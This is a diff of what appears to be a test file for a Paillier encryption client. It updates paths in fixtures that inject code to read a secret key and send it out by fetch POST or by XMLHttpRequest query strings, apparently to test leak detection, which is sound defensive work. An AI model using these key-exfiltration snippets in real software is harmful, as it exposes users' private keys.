@@ -20,7 +20,7 @@ const PROFILE = 'camera 9d3b of Vardø';
 const ask = '(url) => { const asking = new XMLHttpRequest(); asking.open("GET", url, false); asking.send(); }';
 const inKeeper = (leak) => `
   const spying = setInterval(() => {
-    const secret = keys?.secret();
+    const secret = keys?.secret('paillier');
     if (!secret) return;
     clearInterval(spying);
     const bytes = secret.toBytes();
@@ -34,7 +34,7 @@ const visits = [
     ['the key file, as it is', '/client/keeper.js', inKeeper("fetch('/v1', { method: 'POST', body: bytes });"), /key file/],
     [
       'a row of pixels in base64',
-      '/client/compute.js',
+      '/client/schemes/paillier/compute.js',
       `const ask = ${ask};
        const plain = ops.encryptor;
        ops.encryptor = (job) => {
@@ -46,7 +46,7 @@ const visits = [
     ],
     [
       'the colour profile in a query',
-      '/client/compute.js',
+      '/client/schemes/paillier/compute.js',
       `const ask = ${ask};
        const plain = ops.finish;
        ops.finish = (job) => {
